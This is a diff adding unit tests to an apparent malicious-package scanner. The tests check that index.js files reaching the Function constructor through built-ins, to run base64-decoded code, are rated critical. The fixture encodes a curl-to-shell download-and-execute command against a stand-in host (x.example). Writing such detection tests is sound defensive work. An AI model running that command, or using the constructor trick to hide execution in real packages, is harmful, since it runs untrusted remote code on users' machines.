@@ -916,3 +916,31 @@ module.exports = (host, url) => { execFileSync('ping', ['-c', '1', host]); exec(
     ).toEqual([]);
   });
 });
+
+describe('the Function constructor reached through any built-in', () => {
+  const b64 = Buffer.from('require("child_process").exec("curl -s https://x.example/a | sh")').toString(
+    'base64',
+  );
+  it.each([
+    ['[].constructor.constructor', '[].constructor.constructor(code)()'],
+    ["''.constructor.constructor", "''.constructor.constructor(code)()"],
+    ['({}).constructor.constructor', '({}).constructor.constructor(code)()'],
+  ])('%s runs decoded code', (_name, call) => {
+    expect(
+      risk({
+        'package.json': pkg(),
+        'index.js': `const code = Buffer.from('${b64}', 'base64').toString();\n${call};`,
+      }),
+    ).toBe('critical');
+  });
+  it('type checks through constructor stay quiet', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `module.exports = (x) => x != null && (x.constructor === Array || x.constructor === Object || [].constructor.name === x.constructor.name);`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
